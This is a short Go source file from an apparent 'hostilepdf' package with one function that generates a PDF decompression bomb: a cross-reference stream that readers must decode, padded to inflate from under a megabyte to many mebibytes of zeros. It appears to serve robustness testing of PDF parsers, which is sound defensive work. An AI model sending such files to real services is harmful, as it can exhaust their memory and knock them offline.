package hostilepdf

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
)

// FlateBomb returns a PDF whose cross-reference stream, which every reader must decode, inflates from well
// under a megabyte to decodedMiB MiB: the real entries, then zeros.
func FlateBomb(decodedMiB int) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
	}
	offsets := []int{0}
	for i, o := range objs {
		offsets = append(offsets, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xrefAt := b.Len()
	offsets = append(offsets, xrefAt) // object 4 is the stream itself
	var entries bytes.Buffer
	for i, off := range offsets {
		typ := byte(1)
		if i == 0 {
			typ = 0
		}
		entries.WriteByte(typ)
		binary.Write(&entries, binary.BigEndian, uint32(off))
		entries.WriteByte(0)
	}
	var z bytes.Buffer
	w, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	w.Write(entries.Bytes())
	zeros := make([]byte, 1<<20)
	for range decodedMiB {
		w.Write(zeros)
	}
	w.Close()
	fmt.Fprintf(&b, "4 0 obj\n<< /Type /XRef /Size 5 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n", z.Len())
	b.Write(z.Bytes())
	fmt.Fprintf(&b, "\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n", xrefAt)
	return b.Bytes()
}
